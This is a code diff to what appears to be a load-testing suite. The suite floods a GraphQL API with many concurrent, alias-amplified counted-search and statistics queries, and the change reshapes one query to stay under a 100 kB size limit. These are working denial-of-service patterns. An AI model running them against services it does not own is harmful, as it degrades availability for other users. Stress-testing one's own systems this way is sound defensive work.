@@ -14,7 +14,11 @@ const flood =
     await repeat(target, flooding, (index) => send(make(target, index), flooding.options));
   };
 
-const counted = `papers(first: 0, filter: {search: "model or learning or data"}) {totalCount}`;
+/** A counted search behind aliases; its filter is a variable, so that 1,800 aliases are less than 100 kB. */
+const countedSearches = (aliases: number): Query => ({
+  query: `query($f:PaperFilter){${times(aliases, (index) => `a${index}:papers(first:0,filter:$f){totalCount}`)}}`,
+  variables: { f: { search: "model or learning or data" } },
+});
 
 /** Queries that are costly for the database. */
 export const statisticsAttacks: readonly Attack[] = [
@@ -22,17 +26,17 @@ export const statisticsAttacks: readonly Attack[] = [
     id: "K3",
     title: "60 × 1,800 aliases of a counted search, client gone after 2 s",
     seconds: 20,
-    run: flood({ concurrency: 60, count: 60, options: { abandonAfterMs: 2_000 } }, () => ({
-      query: `{${times(1_800, (index) => `a${index}:${counted}`)}}`,
-    })),
+    run: flood({ concurrency: 60, count: 60, options: { abandonAfterMs: 2_000 } }, () =>
+      countedSearches(1_800),
+    ),
   },
   {
     id: "K3-small",
     title: "the same with 40 aliases each, which may be accepted, 60 at once, gone after 2 s",
     seconds: 20,
-    run: flood({ concurrency: 60, count: 600, options: { abandonAfterMs: 2_000 } }, () => ({
-      query: `{${times(40, (index) => `a${index}:${counted}`)}}`,
-    })),
+    run: flood({ concurrency: 60, count: 600, options: { abandonAfterMs: 2_000 } }, () =>
+      countedSearches(40),
+    ),
   },
   {
     id: "K4",
@@ -56,7 +60,10 @@ export const statisticsAttacks: readonly Attack[] = [
     title: "45 × paperStats(by: [AUTHOR, KEYWORD])",
     seconds: 25,
     run: flood({ concurrency: 2 }, () => ({
-      query: `{${times(45, (index) => `a${index}: paperStats(by: [AUTHOR, KEYWORD], first: ${10 + index}) { groups { totals { papers authors medianUpvotes } } }`)}}`,
+      query: `{${times(
+        45,
+        (index) => `a${index}: paperStats(by: [AUTHOR, KEYWORD]) { groups { totals { papers } } }`,
+      )}}`,
     })),
   },
   {
